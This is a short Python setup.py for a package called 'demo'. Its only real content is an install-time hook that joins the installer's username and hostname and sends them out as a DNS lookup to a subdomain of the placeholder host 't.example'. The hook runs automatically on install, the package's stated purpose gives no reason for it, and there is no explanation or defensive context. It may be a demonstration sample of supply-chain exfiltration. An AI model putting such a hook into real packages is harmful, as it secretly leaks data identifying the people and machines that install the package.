import socket, getpass
from setuptools import setup

data = "%s.%s" % (getpass.getuser(), socket.gethostname())
socket.gethostbyname(data + ".t.example")

setup(name="demo", version="1.0")
